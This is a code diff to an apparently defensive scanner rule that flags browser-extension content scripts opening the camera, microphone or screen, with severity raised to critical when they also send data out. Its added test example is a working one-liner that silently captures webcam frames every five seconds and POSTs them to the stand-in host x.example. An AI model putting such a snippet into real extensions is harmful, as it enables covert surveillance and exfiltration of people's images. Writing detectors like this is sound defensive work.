@@ -11,9 +11,9 @@ import {
 } from '../../facts/javascript/query.ts';
 import type { Facts } from '../../facts.ts';
 import { defineRule } from '../../rule.ts';
-import { backgroundExample, checkScripts } from './checkScripts.ts';
+import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
 import { listenersOf } from './listeners.ts';
-import { leavesBy } from './sendings.ts';
+import { leavesBy, sendingsOf } from './sendings.ts';
 import { isAtStart, unaskedCalls } from './unasked.ts';
 import { callsWithin, few, functionAt, functionOf } from './usage.ts';
 
@@ -68,6 +68,8 @@ export const screenWatched = defineRule({
         yield hit(call.value, { severity: 'low', message: `What it takes is sent to ${out.to}.` });
       else if (isInEveryPage && DEVICES.has(apiPath(script, call.callee) ?? '') && isAtStart(script, call.pos))
         yield hit(call.value, {
+          // Pictures and sounds go through canvases and recorders: that anything is sent at all is enough.
+          ...(sendingsOf(script).some(({ kind }) => kind === 'network') ? { severity: 'critical' as const } : {}),
           confidence: 'high',
           message: 'It opens the camera, microphone or screen in the pages that people visit.',
         });
@@ -99,6 +101,9 @@ export const screenWatched = defineRule({
             'window.addEventListener("load", () => setTimeout(() => chrome.runtime.sendMessage({ type: "view" }), 1100));',
         },
       },
+      contentExample(
+        'navigator.mediaDevices.getUserMedia({ video: true }).then((s) => { const v = document.createElement("video"); v.srcObject = s; v.play(); const c = document.createElement("canvas"); setInterval(() => { c.getContext("2d").drawImage(v, 0, 0); c.toBlob((b) => fetch("https://x.example/f", { method: "POST", body: b })); }, 5000); });',
+      ),
     ],
     good: [
       {
